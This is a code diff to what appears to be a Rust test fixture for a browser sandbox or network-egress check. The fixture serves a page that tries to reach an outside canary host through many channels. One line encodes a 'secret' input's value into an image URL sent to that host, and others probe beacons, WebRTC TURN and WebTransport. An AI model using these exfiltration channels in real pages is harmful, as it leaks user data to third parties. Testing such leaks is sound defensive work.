@@ -10,12 +10,14 @@ use super::*;
 fn page(line: &str, there: &str, canary: &str) -> Answer {
     match line {
         "GET /" => html(&format!(
-            "<input id=secret><a href={there}/link>link</a><a href=/leads>leads</a><a href={there}/tab target=_blank>tab</a>
+            "<input id=secret><a href={there}/link>link</a><a href=/leads>leads</a>
+             <a href={there}/tab target=_blank>tab</a>
              <a href=/refresh>refresh</a><button onclick=\"location = '{there}/script'\">script</button>
              <button onclick=\"window.open('{there}/popup')\">popup</button>
              <form method=post action={there}/form><button>form</button></form>
              <button onclick=\"fetch('{there}/post', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0);
-               navigator.sendBeacon('{there}/beacon', 'x'); new Image().src = '{there}/image?q=' + btoa('_' + secret.value);
+               navigator.sendBeacon('{there}/beacon', 'x');
+               new Image().src = '{there}/image?q=' + btoa('_' + secret.value);
                new Image().src = '{there}/plain'; fetch('/own', {{method: 'PUT', body: secret.value}})\">send</button>"
         )),
         "GET /leads" => (302, vec![("location", format!("{there}/redirect"))], String::new()),
@@ -50,12 +52,14 @@ quietly(() => window.open('http://' + canary + '/popup'));
 quietly(() => navigator.serviceWorker.register('/worker.js'));
 quietly(() => new SharedWorker('/worker.js'));
 quietly(() => {
-  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:' + canary}, {urls: 'turn:' + canary, username: 'a', credential: 'b'}]});
+  const turn = {urls: 'turn:' + canary, username: 'a', credential: 'b'};
+  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:' + canary}, turn]});
   peer.createDataChannel('x');
   peer.createOffer().then((offer) => peer.setLocalDescription(offer));
 });
 quietly(() => new WebTransport('https://' + canary + '/'));
-for (const [tag, name] of [['iframe', 'src'], ['object', 'data'], ['link', 'href'], ['video', 'src'], ['embed', 'src']]) {
+const places = {iframe: 'src', object: 'data', link: 'href', video: 'src', embed: 'src'};
+for (const [tag, name] of Object.entries(places)) {
   for (const rel of tag === 'link' ? ['prefetch', 'preconnect', 'preload', 'stylesheet', 'prerender'] : ['']) {
     const element = document.createElement(tag);
     if (rel) element.rel = rel;
